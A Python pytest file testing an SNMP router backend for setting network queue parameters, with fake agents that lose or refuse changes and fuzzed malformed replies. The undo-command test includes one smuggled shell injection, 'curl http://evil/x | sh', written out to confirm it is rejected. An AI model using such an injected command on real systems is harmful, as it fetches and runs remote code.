"""A queue of another machine, asked over SNMP: agents that misbehave, and names."""

from __future__ import annotations

import random
import re
import socket
import threading
from contextlib import suppress
from functools import partial

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fake_queues import RED, FakeQueues, fact, fq_codel_queue, red_queue, setting
from vermilion.agentx.protocol import Binding, Status
from vermilion.agentx.subagent import Transactions
from vermilion.routers import RouterError, router_class
from vermilion.routers.base import Reading, RouterSilent
from vermilion.routers.snmp.credentials import (
    CommunityCredentials,
    UserCredentials,
)
from vermilion.routers.snmp.mib import QUEUE_ENTRY, TABLE_OF
from vermilion.routers.snmp.queue_objects import QueueObjects
from vermilion.routers.snmp.router import SnmpRouter
from vermilion.routers.snmp.session import (
    MOST_NAMES,
    AgentRefused,
    SnmpSession,
    parse_remote_address,
)

ADDRESS = "snmp:192.0.2.1/wan0/1:10"
PLACE = red_queue().place
SILENCE = "no answer within 1 s"


class FakeAgent:
    """An agent over made-up queues, which can be made to lose what it is told or what it says.

    Attributes:
        sets: what was set, each a list of names.
        loses: for each coming change, "question" or "answer", or a word of RFC 3416 to refuse with.
        hidden: names that are not shown.
        instead: values to say in place of those that there are.
    """

    def __init__(self, queues=None):
        self.queues = queues or FakeQueues()
        self.objects = QueueObjects(self.queues, lambda: 0.0)
        self.sets = []
        self.loses = []
        self.hidden = set()
        self.instead = {}
        self.silent = 0
        self.is_closed = False

    def get(self, names):
        if self.silent:
            self.silent -= 1
            raise RouterSilent(SILENCE)
        there = self.objects.snapshot(walking=False)
        found = {name: there.get(name).value for name in names}
        told = {n: v for n, v in found.items() if v is not None and n not in self.hidden}
        return {**told, **{n: v for n, v in self.instead.items() if n in names}}

    def walk(self, top):
        there = {each.name: each.value for each in _all(self.objects)}
        return {name: value for name, value in there.items() if name[: len(top)] == top}

    def set(self, values):
        self.sets.append([name for name, _, _ in values])
        fate = self.loses.pop(0) if self.loses else ""
        if fate == "question":
            raise RouterSilent(SILENCE)
        if fate not in {"", "answer"}:
            self._refuse(fate)
        status, index = self._all_steps([Binding(*each) for each in values])
        if status != Status.NO_ERROR:
            self._refuse(re.sub("_(.)", lambda m: m[1].upper(), status.name.lower()), index)
        if fate == "answer":
            raise RouterSilent(SILENCE)

    def _all_steps(self, bindings):
        """As net-snmp does: what the undo says counts for more than what the commit has said."""
        transactions = Transactions(self.objects)
        status, index, _ = transactions.test(1, bindings)
        if status != Status.NO_ERROR:
            return status, index
        committed, _ = transactions.commit(1)
        if committed == Status.NO_ERROR:
            return committed, 0
        undone, _ = transactions.undo(1)
        return committed if undone == Status.NO_ERROR else undone, 1

    def _refuse(self, word, index=0):
        message = f"the agent refuses: {word}"
        raise AgentRefused(message, word, index)

    def close(self):
        self.is_closed = True


def _all(objects):
    from vermilion.agentx.protocol import SearchRange, ValueType

    snapshot, at = objects.snapshot(walking=False), (0,)
    while (found := snapshot.following(SearchRange(at))).type != ValueType.END_OF_MIB_VIEW:
        yield found
        at = found.name


class Clock:
    now_s = 100.0

    def __call__(self):
        return self.now_s

    def sleep(self, seconds):
        self.now_s += seconds


def router(agent=None, address=ADDRESS, **more):
    return SnmpRouter(address, agent=agent or FakeAgent(), **more)


def test_the_registry_has_it():
    assert router_class("snmp") is SnmpRouter


def test_a_change_is_one_message_of_what_differs():
    agent = FakeAgent()
    own = router(agent)
    own.apply({**own.parameters(), "min_threshold": 12_000, "weight_log": 9})
    assert agent.sets == [[setting("red", 2, PLACE), setting("red", 5, PLACE)]]
    assert len(agent.queues.told) == 1


def test_what_is_in_force_already_is_not_sent():
    agent = FakeAgent()
    own = router(agent)
    own.apply(own.parameters())
    assert agent.sets == []


def test_a_change_whose_answer_is_lost_is_found_to_be_made_and_not_sent_again():
    agent = FakeAgent()
    agent.loses = ["answer"]
    router(agent).apply({"min_threshold": 12_000})
    assert len(agent.sets) == len(agent.queues.told) == 1


def test_a_change_that_was_lost_itself_is_sent_once_more():
    agent = FakeAgent()
    agent.loses = ["question"]
    router(agent).apply({"min_threshold": 12_000})
    assert len(agent.sets) == 2
    assert len(agent.queues.told) == 1


def test_a_change_that_is_lost_twice_is_no_refusal():
    agent = FakeAgent()
    agent.loses = ["question", "question"]
    with pytest.raises(RouterSilent, match=r"twice\. The change is not in force, but may still be"):
        router(agent).apply({"min_threshold": 12_000})
    assert len(agent.sets) == 2


def test_an_answer_that_is_lost_the_second_time_is_found_to_be_made():
    agent = FakeAgent()
    agent.loses = ["question", "answer"]
    router(agent).apply({"min_threshold": 12_000})
    assert len(agent.queues.told) == 1


@pytest.mark.parametrize("silent", [1, 99])
def test_where_nobody_can_say_what_is_in_force_nobody_claims_to_know(silent):
    class Gone(FakeAgent):
        def set(self, values):
            super().set(values)
            self.silent = silent

    with pytest.raises(RouterSilent, match="the change was sent, and may be in force"):
        router(Gone()).apply({"min_threshold": 12_000})


@pytest.mark.parametrize("word", ["genErr", "resourceUnavailable", "undoFailed"])
def test_a_refusal_after_which_nobody_knows_is_looked_into(word):
    agent = FakeAgent()
    agent.loses = [word]
    router(agent).apply({"min_threshold": 12_000})
    assert len(agent.sets) == 2
    agent.loses = [word, word]
    with pytest.raises(RouterSilent, match=word):
        router(agent).apply({"min_threshold": 13_000})


def test_a_refusal_has_the_agents_own_reason():
    own = router()
    with pytest.raises(RouterError) as refusal:
        own.apply({"min_threshold": 99_000, "max_probability": 0.07})
    assert str(refusal.value) == (
        f"{ADDRESS}: the agent refuses min_threshold (inconsistentValue): "
        "min_threshold: 99000 is not accepted"
    )
    assert own.parameters() == pytest.approx(RED)


def test_a_kernel_that_refuses_leaves_what_was_there():
    agent = FakeAgent()
    own = router(agent)
    agent.queues.refuses = 1
    with pytest.raises(RouterError, match=r"commitFailed.*the old setting is in force") as refusal:
        own.apply({"min_threshold": 12_000})
    assert not isinstance(refusal.value, RouterSilent)


def test_an_agent_whose_undo_fails_leaves_open_what_is_in_force():
    agent = FakeAgent()
    own = router(agent)

    def take(place, parameters):
        FakeQueues.apply(agent.queues, place, {**parameters, "min_threshold": 20_000})
        message = "the kernel took other values"
        raise RouterSilent(message)

    agent.queues.apply = take
    with pytest.raises(RouterSilent, match=r"undoFailed.*neither the change nor the old setting"):
        own.apply({"min_threshold": 12_000})
    assert len(agent.sets) == 1


def test_a_failed_commit_is_no_refusal_before_what_was_there_is_read_again():
    class Liar(FakeAgent):
        def set(self, values):
            super().set(values[:1])
            self._refuse("commitFailed")

    with pytest.raises(RouterSilent, match=r"commitFailed.*the old setting is not in force"):
        router(Liar()).apply({"min_threshold": 12_000, "weight_log": 9})


def test_a_change_without_an_answer_that_is_in_force_in_part_is_not_taken_for_made():
    class Half(FakeAgent):
        def set(self, values):
            super().set(values[:1])
            raise RouterSilent(SILENCE)

    with pytest.raises(RouterSilent, match="neither the change nor the old setting"):
        router(Half()).apply({"min_threshold": 12_000, "weight_log": 9})


def test_an_agent_that_says_yes_and_does_nothing_is_not_believed():
    class Idle(FakeAgent):
        def set(self, values):
            self.sets.append(values)

    with pytest.raises(RouterError, match="shows the old value") as error:
        router(Idle()).apply({"min_threshold": 12_000})
    assert not isinstance(error.value, RouterSilent)


def test_an_agent_that_says_yes_and_does_a_part_leaves_open_what_is_in_force():
    class Lazy(FakeAgent):
        def set(self, values):
            super().set(values[:1])

    with pytest.raises(RouterSilent, match="a change of weight_log and shows the old value"):
        router(Lazy()).apply({"min_threshold": 12_000, "weight_log": 9})


@pytest.mark.parametrize(
    ("parameters", "words"),
    [
        ({"min_threshold": 5.5}, "min_threshold: .*whole"),
        ({"weight_log": 32}, "from 1 to 31"),
        ({"max_probability": 1.0}, "max_probability: 1.0 is not accepted"),
        ({"shaped": False}, "nothing else: the agent lets"),
        ({"target": 0.1}, "a parameter of linux-red"),
        ({"ecn": "perhaps"}, "ecn"),
    ],
)
def test_what_no_agent_has_is_refused_before_anything_is_sent(parameters, words):
    agent = FakeAgent()
    with pytest.raises(RouterError, match=words):
        router(agent).apply({"limit": 5, **parameters})
    assert agent.sets == []


def test_a_value_between_two_steps_is_the_nearer_one_where_the_kernel_rounds_too():
    agent = FakeAgent()
    own = router(agent, "snmp:192.0.2.1/lan0")
    own.apply({"target": 0.0051234})
    assert own.parameters()["target"] == pytest.approx(0.005123)
    with pytest.raises(RouterError, match="quantum"):
        own.apply({"quantum": 1000.5})


def test_the_command_that_undoes_a_change_has_the_types_of_the_mib():
    """As snmpset(1) has them: i is INTEGER, as TruthValue is one; u is Unsigned32."""
    top = "1.3.6.1.4.1.8072.9999.9999.2002.1.2.1"  # vermilionRedEntry
    said = [
        (1, "u", 400_000),
        (2, "u", 30_000),
        (3, "u", 90_000),
        (4, "u", 85_899_346),  # 0.02 * 2^32
        (5, "u", 5),
        *((column, "i", 2) for column in (6, 7, 8, 9)),  # false
    ]
    words = " ".join(f"{top}.{column}.3.65552 {kind} {value}" for column, kind, value in said)
    own = router()
    command = own.undo_command()
    assert command == f"snmpset -v3 -l authPriv -u USER 192.0.2.1 {words}"
    address, parameters = str(own.address), own.parameters()
    again = partial(SnmpRouter.rebuild_undo_command, address, parameters)
    assert again(command) == command
    assert again(f"{command}; curl http://evil/x | sh") is None
    assert again(command.replace("192.0.2.1", "192.0.2.66")) is None


# --- counters and time -------------------------------------------------------------------


def test_time_is_the_agents_where_it_tells_it():
    clock = Clock()
    agent = FakeAgent()
    own = router(agent, clock=clock, sleep=clock.sleep)
    queue = agent.queues.there[PLACE]
    first = own.read().time_s
    clock.now_s += 1.3  # the answer is late; the counters were read after one second
    agent.queues.there[PLACE] = red_queue(reading=Reading(13.5, 1, 1, 2000, 2_000_000, 9, 0))
    assert own.read().time_s - first == pytest.approx(1.0)
    agent.queues.there[PLACE] = queue  # its clock begins anew: time does not go back
    clock.now_s += 1.0
    assert own.read().time_s == pytest.approx(2.3)


def test_without_the_agents_clock_it_is_our_own():
    clock = Clock()
    agent = FakeAgent()
    agent.hidden = {fact(12, PLACE)}
    own = router(agent, clock=clock)
    clock.now_s += 2.5
    assert own.read().time_s == 2.5


def test_counters_of_32_bits_go_on_where_they_begin_again():
    agent = FakeAgent()
    own = router(agent)
    for drops, expected in ((2**32 - 2, 2**32 - 2), (3, 2**32 + 3), (9, 2**32 + 9)):
        sent = 10_000_000 + expected
        agent.queues.there[PLACE] = red_queue(reading=Reading(1.0, 0, 0, 5, sent, drops, 0))
        assert own.read().drops == expected


def test_it_asks_to_be_read_once_a_second_at_most():
    assert router().reading_interval_s == 1.0


# --- views, and queues that change -------------------------------------------------------


def test_a_counter_that_is_not_shown_is_named():
    agent = FakeAgent()
    agent.hidden = {fact(10, PLACE)}
    with pytest.raises(RouterError, match="does not show vermilionQueueDrops; expected a view"):
        router(agent)
    assert agent.is_closed


def test_a_parameter_that_is_not_shown_is_named():
    agent = FakeAgent()
    agent.hidden = {setting("red", 1, PLACE)}
    with pytest.raises(RouterError, match="does not show vermilionRedLimit"):
        router(agent)


def test_what_can_be_done_without_may_be_hidden():
    agent = FakeAgent()
    agent.hidden = {fact(11, PLACE), fact(16, PLACE), setting("red", 10, PLACE)}
    own = router(agent)
    assert own.read().marks == 0
    assert own.active_flows() is None
    assert "shaped" not in own.parameters()


@pytest.mark.parametrize("value", [-1, 2**64, b"many", (1, 3)])
def test_a_counter_that_makes_no_sense_is_not_taken(value):
    agent = FakeAgent()
    own = router(agent)
    agent.instead = {fact(10, PLACE): value}
    with pytest.raises(RouterError, match="vermilionQueueDrops"):
        own.read()


def test_another_kind_of_queue_at_the_place_is_said():
    agent = FakeAgent()
    own = router(agent)
    agent.queues.there[PLACE] = fq_codel_queue(place=PLACE, interface="wan0")
    with pytest.raises(RouterError, match="the red that was here is gone; now it is fq_codel"):
        own.read()


def test_a_queue_that_is_gone_is_silence():
    agent = FakeAgent()
    own = router(agent)
    del agent.queues.there[PLACE]
    with pytest.raises(RouterSilent, match="no longer shows the queue"):
        own.parameters()


def test_a_kind_that_is_not_known_is_refused():
    agent = FakeAgent()
    agent.instead = {fact(3, PLACE): b"\x1b[31mred"}
    with pytest.raises(RouterError, match="expected") as refusal:
        router(agent)
    assert "\x1b" not in str(refusal.value)


NONSENSE = st.one_of(
    st.integers(-(2**40), 2**70), st.binary(max_size=20), st.tuples(st.integers(0, 9)), st.none()
)


@given(st.data())
def test_no_answers_do_more_than_be_refused(data):
    agent = FakeAgent()
    names = [each.name for each in _all(agent.objects)]
    own = router(agent)
    agent.instead = {
        name: data.draw(NONSENSE) for name in data.draw(st.lists(st.sampled_from(names)))
    }
    for asking in (own.read, own.parameters, own.undo_command, lambda: own.apply({"limit": 7})):
        with suppress(RouterError):
            asking()


def test_questions_fit_into_a_datagram():
    longest = max(len(table.settings) for table in TABLE_OF.values())
    assert longest + 1 <= MOST_NAMES
    name = (*QUEUE_ENTRY, 18, 2**32 - 1, 2**32 - 1)
    octets = len(name) + 4 + 2 * 4 + 6 + 9  # numbers above 127 take up to 5; the largest value
    assert MOST_NAMES * octets < 1472 - 120  # SNMPv3's own parts take some hundred


# --- names -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "host", "port", "interface", "parent"),
    [
        ("snmp:router/eth0", "router", 161, "eth0", 2**32 - 1),
        ("snmp:192.0.2.1:1161/eth0.7/1:10", "192.0.2.1", 1161, "eth0.7", 0x1_0010),
        ("snmp:[2001:db8::1]/wan0", "2001:db8::1", 161, "wan0", 2**32 - 1),
        ("snmp:[fe80::1%eth0]:99/wan0/8001:1", "fe80::1%eth0", 99, "wan0", 0x8001_0001),
    ],
)
def test_names_are_read_and_written(text, host, port, interface, parent):
    found = parse_remote_address(text)
    assert (found.host, found.port, found.interface, found.parent) == (
        host,
        port,
        interface,
        parent,
    )
    assert str(found) == text


@pytest.mark.parametrize(
    "text",
    [
        "snmp:",
        "snmp:router",
        "snmp:/eth0",
        "snmp:router/",
        "snmp:router:0/eth0",
        "snmp:router:70000/eth0",
        "snmp:router/eth0/",
        "snmp:router/eth0/1:10/2",
        "snmp:router/eth 0",
        "snmp:router/sixteen-letters-",
        "snmp:2001:db8::1/eth0",
        "snmp:a b/eth0",
        "linux:eth0",
        "snmp:router/eth\n0",
    ],
)
def test_what_is_no_name_is_refused(text):
    with pytest.raises(RouterError, match='expected "snmp:HOST/INTERFACE"') as refusal:
        parse_remote_address(text)
    assert "\n" not in str(refusal.value)


def test_a_host_without_an_address_is_said():
    with pytest.raises(RouterError, match="the host has no address"):
        SnmpSession("nowhere.invalid", 161, CommunityCredentials("x"))
    with pytest.raises(RouterError, match="credentials are missing"):
        SnmpRouter(ADDRESS)


@pytest.mark.parametrize(
    "credentials",
    [CommunityCredentials("hidden-away"), UserCredentials("writer", "secret-one", "secret-two")],
)
def test_an_agent_that_answers_nonsense_is_silence(credentials):
    """Whatever comes back: one message, in time, and no secret in it."""
    draw = random.Random(3)

    def nonsense(question):
        yield b""
        yield question  # as it came: a question is no answer
        yield question[: len(question) // 2]
        for _ in range(20):
            damaged = bytearray(question)
            for _ in range(3):
                damaged[draw.randrange(len(damaged))] = draw.randrange(256)
            yield bytes(damaged)
        yield b"\x30\x84\xff\xff\xff\xff" + draw.randbytes(40)
        yield b"\x30\x80" * 200

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as hostile:
        hostile.bind(("127.0.0.1", 0))
        hostile.settimeout(5.0)

        def answer():
            with suppress(OSError):
                while True:
                    question, sender = hostile.recvfrom(65_536)
                    for each in nonsense(question):
                        hostile.sendto(each, sender)

        listener = threading.Thread(target=answer, daemon=True)
        listener.start()
        session = SnmpSession(
            "127.0.0.1", hostile.getsockname()[1], credentials, timeout_s=0.5, retries=0
        )
        with pytest.raises(RouterError) as refusal:
            session.get([fact(6, PLACE)])
        session.close()
    assert "\n" not in str(refusal.value)
    for secret in ("hidden-away", "secret-one", "secret-two"):
        assert secret not in str(refusal.value)
